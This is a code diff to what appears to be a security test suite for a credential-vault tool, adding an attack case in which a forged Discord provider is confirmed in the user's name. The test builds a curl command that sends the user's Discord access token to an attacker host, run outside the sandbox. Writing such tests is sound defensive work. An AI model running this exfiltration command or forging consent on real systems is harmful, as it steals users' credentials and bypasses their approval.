@@ -67,6 +67,15 @@ def nested_run() -> bytes:
 
 def forged_provider() -> bytes:
     """A definition of the attacker's beside the user's vault: the token may go to one more host."""
+    return _forged("forged_provider")
+
+
+def agreed_provider() -> bytes:
+    """The same, agreed to in the user's name: no more is needed to read the vault itself."""
+    return _forged("agreed_provider", agreed=True)
+
+
+def _forged(name: str, *, agreed: bool = False) -> bytes:
     forged = Path("forged")
     shutil.copytree(VAULT, forged, ignore=shutil.ignore_patterns("runs", "audit"))
     try:
@@ -75,11 +84,11 @@ def forged_provider() -> bytes:
         (forged / "providers").mkdir(mode=0o700, exist_ok=True)
         (forged / "providers/discord.json").write_text(json.dumps(provider))
         (forged / "providers/discord.json").chmod(0o600)
-        script = (
-            f'curl -s -H "X-Attack: forged_provider" -H "Authorization: Bearer $DISCORD_ACCESS_TOKEN" {EVIL}'
-        )
+        script = f'curl -s -H "X-Attack: {name}" -H "Authorization: Bearer $DISCORD_ACCESS_TOKEN" {EVIL}'
         home = {"AUTHSOME_HOME": str(forged.absolute()), "AUTHSOME_CONNECT_TO": os.environ["ROUTES"]}
         roots = {"SSL_CERT_FILE": os.environ["ROOTS"]}
+        if agreed:
+            ask("confirm", "discord", "--yes", removed=("AUTHSOME_RUN",), extra=home)
         return ask("run", "--no-sandbox", "--", "sh", "-c", script, extra=home | roots)
     except ValueError:
         return b""  # there is no definition to begin with
@@ -105,5 +114,6 @@ ATTACKS: tuple[Callable[[], bytes], ...] = (
     other_profile,
     nested_run,
     forged_provider,
+    agreed_provider,
     moved_home,
 )
